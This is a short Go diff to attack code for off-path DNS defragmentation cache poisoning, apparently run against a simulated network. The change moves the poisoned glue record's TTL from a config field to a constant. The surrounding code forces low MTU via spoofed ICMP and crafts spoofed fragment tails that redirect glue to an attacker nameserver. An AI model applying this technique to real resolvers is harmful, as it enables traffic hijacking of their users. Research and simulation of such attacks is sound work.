@@ -242,7 +242,6 @@ type FragPoisonerConfig struct {
 	AttackerNS     simnet.IP   // where the rewritten glue points
 	ForcedMTU      int         // path MTU imposed via spoofed ICMP PTB; default 68
 	IPIDWindow     int         // how many consecutive IPIDs to plant; default 8
-	GlueTTLBase    uint32      // top-16-bits TTL for the poisoned glue; default ~7 days
 
 	// ResolverEDNS is the victim resolver's EDNS0 buffer size, which the
 	// attacker fingerprints beforehand (e.g. by watching its own queries
@@ -259,11 +258,12 @@ func (c FragPoisonerConfig) withDefaults() FragPoisonerConfig {
 	if c.IPIDWindow == 0 {
 		c.IPIDWindow = 8
 	}
-	if c.GlueTTLBase == 0 {
-		c.GlueTTLBase = 0x00090000 // 589 824 s ≈ 6.8 days
-	}
 	return c
 }
+
+// glueTTLBase holds the top 16 bits of the poisoned glue's TTL:
+// 589 824 s ≈ 6.8 days.
+const glueTTLBase = 0x00090000
 
 // FragPoisoner executes the defragmentation cache-poisoning attack from an
 // attacker host that is fully off-path: it never sees resolver↔server
@@ -349,7 +349,7 @@ func (p *FragPoisoner) Plant(genuine []byte, probedID uint16) (int, error) {
 		return 0, fmt.Errorf("%w: datagram %dB fits mtu %d", ErrNoFragmentation, datagramLen, p.cfg.ForcedMTU)
 	}
 	tailStart := chunk - simnet.UDPHeaderSize // first spoofable byte, in DNS-payload coordinates
-	mod, err := CraftPoisonedTail(genuine, p.cfg.GlueName, p.cfg.AttackerNS, p.cfg.GlueTTLBase, tailStart, simnet.UDPHeaderSize)
+	mod, err := CraftPoisonedTail(genuine, p.cfg.GlueName, p.cfg.AttackerNS, glueTTLBase, tailStart, simnet.UDPHeaderSize)
 	if err != nil {
 		return 0, err
 	}
